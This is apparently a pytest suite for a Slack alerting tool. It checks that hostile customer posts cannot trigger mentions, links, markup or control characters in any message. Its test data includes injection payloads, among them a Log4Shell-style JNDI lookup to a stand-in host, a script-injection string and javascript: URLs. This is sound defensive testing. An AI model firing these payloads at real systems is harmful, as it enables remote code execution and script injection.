"""Words from outside act nowhere: hundreds of hostile posts through every kind of message."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors.base import Author
from listener.cases.shelf import Asked, Grant, Praise, PraiseState, Shelved, Standing
from listener.model import CaseView, Line, NotificationKind, Told
from listener.slack import limits
from listener.slack.blocks import Message, case_message
from listener.slack.entries import digest_message, message_for, notice, state_entry, thread_entry
from listener.slack.outside import clean, cut, defuse, one_line, unescape, web_address
from listener.slack.shelving import section
from tests.fakes.told import NOW, complaint, delivery, look, summary, told, verdict, view

TOKENS = (
    "<!channel>", "<!here>", "<!everyone>", "<@U0123456789>", "<@W012>", "<#C0123456|general>", "<!subteam^S012|@team>",
    "<https://evil.example|Your bank>", "<mailto:a@b.example|x>", "<!date^1^{date}^https://evil.example|now>",
    "@here", "@channel", "@everyone", "#general", "https://evil.example/a?b=c&d=<e>", "http://evil.example", "evil.example",
    "a@evil.example", "*bold*", "_italic_", "~gone~", "`code`", "```block```", ":rotating_light:", "&lt;!channel&gt;",
    "&amp;lt;!here&amp;gt;", "> quote", "&gt; quote", "[x](https://evil.example)", "[bold red]markup[/]", "{text}", "{0}",
    "%s%n", "${jndi:ldap://evil.example/x}", "</script><script>alert(1)</script>",
)  # fmt: skip
WRAPPERS = (
    "{}", "a {} b", "{}\u202e{}\u202c", "\u2066{}\u2069\u2067", "\x00{}\x00", "\x1b]8;;https://evil.example\x07{}\x1b]8;;\x07",
    "\x1b[31m{}\x9b0m", "\ud800{}\udfff", "<{}>", "<!\u200bchannel>{}", "\n\n\n\n\n{}\r\n{}\u2028{}\u2029", "*{}*_{}_~{}~`{}`",
)  # fmt: skip
LARGE = (
    "😀" * 10_000, "<!channel>" * 1000, "&" * 10_000, "<" * 10_000, "\n" * 10_000, "a\u0301\u0302\u0303\u0304\u0305" * 1600,
    "\ud83d" * 10_000, "_" * 10_000, "`" * 10_000, "👩\u200d👩\u200d👧\u200d👦" * 1400, "x" * 10_000, "\u202e" * 10_000,
    "\x00" * 10_000, "&lt;!here&gt; " * 700, ".a" * 5000, "::::" * 2500, "\u200b" * 10_000, " " * 10_000, "",
)  # fmt: skip
POSTS = [wrapper.replace("{}", token) for wrapper, token in itertools.product(WRAPPERS, TOKENS)] + list(LARGE)

DATE_TOKEN = re.compile(r"<!date\^\d+\^\{date_short_pretty\} \{time\}\|[^<>|]*>")


def hostile(text: str) -> CaseView:
    """A case in which everything that can come from outside is `text`."""
    lines = (Line(20, text, text, text), Line(0, "override", text, text))
    evil = verdict(lang=text, touchpoints={text: -1.0, f"{text}2": None}, exit_to=text, near=text, lines=lines)
    post = told(text, verdict=evil, title=text, url=text, platform=text, author=Author(text, text, text, 10**9))
    return view(post, told(f"again {text}", verdict=evil), mention_count=7)


def shelved(text: str) -> Shelved:
    """An entry of the shelf in which everything that was typed or posted is `text`."""
    asked = Asked(NOW, text, text, text)
    entry = Praise(PraiseState.ASKED, NOW, text, NOW, text, text, asked, Grant(NOW, text, text, text))
    return Shelved(entry, hostile(text).mentions[0], "c-7F3K")


def messages(text: str) -> Iterator[tuple[str, Message]]:
    """Every message that such a case leads to."""
    case = hostile(text)
    for language in ("en", "fr"):
        for interactive in (True, False):
            shown = look(language, interactive)
            yield "case", case_message(case, shown, NOW, repeated=interactive)
            yield "shelved", case_message(replace(case, shelf="granted"), shown, NOW)
            lines = section(Standing({PraiseState.ASKED: 2}, shelved(text)), shown)
            yield "shelf", Message("Praise", tuple(lines), {})
            yield "thread", thread_entry(delivery(NotificationKind.CASE_THREAD, case=case), shown)
            yield "notice", notice({"title": text, "text": text, "next": text}, shown)
            yield "state", state_entry(case, shown)
            folded = delivery(NotificationKind.SUMMARY, case=None, summary=summary(*15 * [case], hidden=9))
            yield "summary", message_for(folded, shown, NOW, repeated=interactive)
            yield "digest", digest_message({"text": text, "week": "2026-W47", "blocks": [{"type": "divider"}]}, shown)


def mrkdwn_texts(message: Message) -> Iterator[str]:
    """Every text that Slack reads as markup: the top-level one, and mrkdwn objects wherever they stand."""
    yield message.text
    stack: list[Any] = list(message.blocks)
    while stack:
        one = stack.pop()
        if isinstance(one, Mapping):
            if one.get("type") == "mrkdwn":
                assert one.get("verbatim") is True
                yield one["text"]
            stack.extend(one.values())
        elif isinstance(one, (list, tuple)):
            stack.extend(one)


def acts(text: str) -> list[str]:
    """What in `text` Slack would act on, our own date token and bold labels aside."""
    text = DATE_TOKEN.sub("", text)
    text = re.sub(r"^\*[^*\n]+\*\n", "", text)
    found = re.findall(r"[<>]", text)
    found += re.findall(r"&(?!amp;|lt;|gt;)", text)
    found += re.findall(r"@\w+|#\w+", text)
    found += re.findall(r"\w+://|mailto:\w|(?<=[a-z])\.(?:example|com)\b", text)
    found += re.findall(r"[*~`|]", text)
    found += re.findall(r"(?<![^\W_])_\w|\w_(?![^\W_])", text)
    found += re.findall(r":[\w+'-]+:", text)
    found += re.findall(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", text)
    return found


def problems_of(message: Message) -> list[str]:
    payload = {"text": message.text, "blocks": list(message.blocks)}
    found = limits.problems(payload)
    if limits.size(message.blocks) > limits.BLOCKS_BUDGET:
        found.append(f"{limits.size(message.blocks)} bytes")
    if len(message.text) >= limits.TEXT_WANTED:
        found.append(f"text of {len(message.text)} characters")
    raw = json.dumps(payload, ensure_ascii=False)
    found += [f"{letter!r} somewhere" for letter in re.findall("[\u202a-\u202e\u2066-\u2069\ud800-\udfff]", raw)]
    found += ["control character" for letter in re.findall(r"\\u00(?:[01]|7f|[89])", raw)]
    for text in mrkdwn_texts(message):
        found += [f"{sign!r} acts in {text[:80]!r}" for sign in acts(text)]
    return found


def test_there_are_at_least_two_hundred_hostile_posts() -> None:
    assert len(POSTS) >= 200


@pytest.mark.parametrize("wrapper", WRAPPERS)
def test_no_hostile_post_acts_in_any_message(wrapper: str) -> None:
    for token in TOKENS:
        for name, message in messages(wrapper.replace("{}", token)):
            assert problems_of(message) == [], (name, token)


@pytest.mark.parametrize(
    "text", LARGE, ids=lambda text: f"{text[:3]!r}x{len(text)}".encode("ascii", "replace").decode()
)
def test_no_large_post_breaks_a_limit(text: str) -> None:
    for name, message in messages(text):
        assert problems_of(message) == [], name


@given(st.text(max_size=300))
@settings(max_examples=100, deadline=None)
def test_no_text_at_all_breaks_a_message(text: str) -> None:
    for name, message in messages(text):
        assert problems_of(message) == [], name


@given(st.text(alphabet=st.sampled_from("<>!@#&;|*_~`:/. \nachnelhrmp{}^U0\u202e\ud800\x00"), max_size=60))
@settings(max_examples=100, deadline=None)
def test_no_mixture_of_signs_acts(text: str) -> None:
    assert acts(defuse(text)) == []
    for name, message in messages(text):
        assert problems_of(message) == [], name


def test_only_web_addresses_become_buttons() -> None:
    for text in POSTS:
        for _, message in messages(text):
            for block in message.blocks:
                for one in block.get("elements", ()):
                    assert urlsplit(one.get("url", "https://fine")).scheme in {"http", "https"}
    assert "url" not in json.dumps(case_message(view(told("x", url="javascript:alert(1)")), look(), NOW).blocks)


def test_a_message_says_the_customers_words_as_they_are() -> None:
    text = "J'ai payé 30 € <3 & j'attends *toujours* (@marque) https://shop.example #déçue"
    quoted = case_message(view(told(text)), look(), NOW).blocks[1]["elements"][0]["elements"][0]
    assert quoted == {"type": "text", "text": text}


@given(st.text(max_size=200))
@settings(max_examples=100, deadline=None)
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    assert clean(clean(text)) == clean(text)
    assert len(clean(text)) <= len(text)


@given(st.text(max_size=200), st.integers(min_value=1, max_value=50))
@settings(max_examples=100, deadline=None)
def test_a_cut_text_is_never_longer_than_asked(text: str, limit: int) -> None:
    assert len(cut(text, limit)) <= limit
    assert len(one_line(text, limit)) <= limit
    assert "\n" not in one_line(text, limit)


def test_defused_words_stay_readable() -> None:
    said = defuse("@here see *this* <!channel> at https://x.example, user_name & co")
    assert said.replace("\u2060", "") == "@here see ∗this∗ &lt;!channel&gt; at https://x.example, user_name &amp; co"
    assert unescape("&lt;a&gt; &amp;lt;") == "<a> &lt;"


def test_right_to_left_words_stay_and_overrides_go() -> None:
    assert clean("\u200fשלום\u200e \u202eevil\u202c") == "\u200fשלום\u200e evil"


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://a.example/b?c=d#e", "https://a.example/b?c=d#e"),
        ("HTTP://A.example:8080/ä", "http://a.example:8080/%C3%A4"),
        ("https://bücher.example/", "https://xn--bcher-kva.example/"),
        ("https://[::1]/x", "https://[::1]/x"),
        ("javascript:alert(1)", None),
        ("https://bank.example@evil.example/", None),
        ("https:///nothing", None),
        ("https://a..b/", None),
        ("https://a.example/\u202e", "https://a.example/%E2%80%AE"),
        ("https://a.example/ b", None),
        ("https://a.example/<b>", None),
        ("https://a.example:99999/", None),
        ("https://a.example/" + "x" * 3000, None),
        ("https://a.example/" + "ä" * 1000, None),
        ("ftp://a.example", None),
        ("", None),
    ],
)
def test_an_address_is_plain_http_or_nothing(url: str, kept: str | None) -> None:
    assert web_address(url) == kept


@pytest.mark.parametrize(
    "text", LARGE, ids=lambda text: f"{text[:3]!r}x{len(text)}".encode("ascii", "replace").decode()
)
def test_a_large_post_is_rendered_in_milliseconds(text: str) -> None:
    started = datetime.now()  # noqa: DTZ005  # a stop watch
    case_message(hostile(text), look(), NOW)
    assert datetime.now() - started < timedelta(seconds=1)  # noqa: DTZ005  # generous: the machine is shared


def test_an_owner_is_shown_as_a_name_unless_it_is_a_slack_user() -> None:
    def status(owner: str) -> str:
        case = replace(complaint(), case=replace(complaint().case, owner=owner))
        return str(case_message(case, look(), NOW).blocks[2]["fields"][0]["text"])

    assert "<@U0ANA12345>" in status("U0ANA12345")
    assert "<" not in status("<!channel>")
    assert "<@" not in status("U1|<!here>")


def test_hostile_mentions_are_told_values() -> None:
    assert all(isinstance(one, Told) for one in hostile("x").mentions)
